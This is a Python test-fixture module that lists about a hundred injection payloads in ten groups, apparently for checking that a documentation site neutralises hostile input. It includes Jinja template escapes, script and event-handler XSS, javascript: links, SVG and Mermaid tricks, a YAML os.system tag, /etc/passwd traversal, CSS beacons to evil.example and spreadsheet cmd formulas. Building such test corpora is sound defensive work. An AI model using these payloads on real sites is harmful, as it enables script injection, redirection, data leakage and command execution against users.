"""Texts that would run, restyle or lead astray if one layer of the site let them; ten groups, each with what it tries."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    """One text. `#` in it becomes its number, so that what ran names itself; `greedy` ones swallow what follows them."""

    group: str
    number: int
    text: str
    greedy: bool = False


GROUPS: dict[str, tuple[str, ...]] = {
    "template": (
        "{{ 'ji' ~ 'nja' }}-was-run",
        "{% set x = 'jin' ~ 'ja' %}{{ x }}-was-run",
        "{{ cycler.__init__.__globals__.os.environ['PATH'] }}",
        "{{ config.site_name ~ 'ja-was-run' }}",
        "{% raw %}{{ 'ji' ~ 'nja' }}-was-run{% endraw %}{{ 'ji' ~ 'nja' }}-was-run",
        "{# hidden #}{{ environment }}",
        "&#123;&#123; 'ji' ~ 'nja' }}-was-run",
        "{%- include '../../mkdocs.yml' -%}",
        "--8<-- \"mkdocs.yml\"",
        "${7*7} #{7*7} <%= 7*7 %>",
    ),
    "element": (
        "<script>ran(#)</script>",
        "<ScRiPt/src=data:,ran(#)></sCrIpT>",
        "</td></table></div></article></main><script>ran(#)</script>",
        "<iframe srcdoc='<script>parent.ran(#)</script>'></iframe>",
        "<object data='data:text/html,<script>parent.ran(#)</script>'></object>",
        "<embed src=javascript:ran(#)>",
        "<template shadowrootmode=open><script>ran(#)</script></template>",
        "<form action=https://evil.example/#><button>x</button></form>",
        "<noscript><p title='</noscript><img src=x onerror=ran(#)>'>",
        "<!--><img src=x onerror=ran(#)>-->",
        "<![CDATA[<script>ran(#)</script>]]>",
    ),
    "handler": (
        "<img src=x onerror=ran(#)>",
        "<svg onload=ran(#)>",
        "<details open ontoggle=ran(#)>x</details>",
        "<input autofocus onfocus=ran(#)>",
        "<video><source onerror=ran(#)></video>",
        "<body onpageshow=ran(#)>",
        "\" onmouseover=\"ran(#)\" x=\"",
        "' autofocus tabindex=1 onfocus='ran(#)' x='",
        "x\"><img src=x onerror=ran(#)>",
        "<p style=animation-name:x onanimationstart=ran(#)>x</p>",
    ),
    "scheme": (
        "[x](javascript:ran(#))",
        "[x](JaVaScRiPt:ran(#))",
        "[x](&#106;avascript:ran(#))",
        "[x](java&Tab;script&colon;ran(#))",
        "[x](\\javascript:ran(#))",
        "[x](data:text/html,<script>ran(#)</script>)",
        "[x](vbscript:ran(#))",
        "[x][r#]\n\n[r#]: javascript:ran(#)",
        "<javascript:ran(#)>",
        "[![x](x)](javascript:ran(#))",
        "[x](<java\nscript:ran(#)>)",
    ),
    "extension": (
        "x{: onclick=ran(#) }",
        "# x {: onmouseover=ran(#) style=position:fixed }",
        "[x](https://example.org){: onclick=ran(#) }",
        "<div markdown=1 onclick=ran(#)>x</div>",
        "```python title=\"<img src=x onerror=ran(#)>\"\nx\n```",
        "*[x]: <img src=x onerror=ran(#)>",
        "[^1]: <img src=x onerror=ran(#)>\n\nx[^1]",
        "| a |\n|---|\n| <img src=x onerror=ran(#)> |",
        "!!! note \"<img src=x onerror=ran(#)>\"\n    x",
        "    <script>ran(#)</script>",
        "\\<script>ran(#)\\</script>",
    ),
    "drawing": (
        "<svg><title><img src=x onerror=ran(#)></title></svg>",
        "<svg><style><img src=x onerror=ran(#)></style></svg>",
        "<svg><animate attributeName=href values=javascript:ran(#)></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=ran(#)>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=ran(#)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran(#)&gt;'>",
        "\"] click n_a href \"javascript:ran(#)\"",
        "%%{init: {'securityLevel': 'loose'}}%% <img src=x onerror=ran(#)>",
        "end\"]\nclick n_a call ran(#)",
        "#lt;img src=x onerror=ran(#)#gt;",
    ),
    "head": (
        "x\"><script>ran(#)</script>",
        "</title><script>ran(#)</script>",
        "x' --><script>ran(#)</script>",
        "x\" http-equiv=\"refresh\" content=\"0;url=https://evil.example/#\" y=\"",
        "<base href=https://evil.example/#/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/#'>",
        "<link rel=stylesheet href=https://evil.example/#.css>",
        "x\ntemplate: ../../x\nrender_macros: true",
        "--- x: !!python/object/apply:os.system ['true']",
    ),
    "address": (
        "![x](https://evil.example/#.png)",
        "[x](//evil.example/#)",
        "[x](/\\evil.example/#)",
        "[x](https://example.org@evil.example/#)",
        "../../../../etc/passwd",
        "[x](https://a \"[[id|words]]\")",
        "[x](mailto:a@example.org?bcc=b@evil.example&body=<script>ran(#)</script>)",
        "[x](https://example.org/\"onclick=\"ran(#))",
        "https://example.org/<script>ran(#)</script>",
    ),
    "style": (
        "<style>body{display:none}</style>",
        "<p style='position:fixed;inset:0;background:url(https://evil.example/#)'>x</p>",
        "<div class=md-overlay id=__drawer>x</div>",
        "</style><script>ran(#)</script>",
        "@import url(https://evil.example/#.css);",
        "x; } body { background: url(https://evil.example/#) }",
        "$\\style{background:url(https://evil.example/#)}{x}$",
        "$\\text{<img src=x onerror=ran(#)>}$",
    ),
    "export": (
        "</script><script>ran(#)</script>",
        "<!--<script>ran(#)//",
        "\",\"x\":\"y\"}];ran(#);//",
        "\\u003cimg src=x onerror=ran(#)\\u003e",
        "=HYPERLINK(\"https://evil.example/#\",\"x\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{{c1::x}}<img src=x onerror=ran(#)>",
        "x;\nATTACH:https://evil.example/#",
        "]]><script>ran(#)</script>",
        "\u2028ran(#)//",
    ),
}  # fmt: skip

_GREEDY = ("<noscript", "<!--<", "<![CDATA[", "```", "    <", "<template", "--- x", "<math", "| a |")

PAYLOADS = tuple(
    Payload(
        group,
        number,
        text.replace("#)", f"{number})").replace("example/#", f"example/{number}").replace("r#", f"r{number}"),
        text.startswith(_GREEDY),
    )
    for number, (group, text) in enumerate(((group, text) for group, texts in GROUPS.items() for text in texts), 1)
)
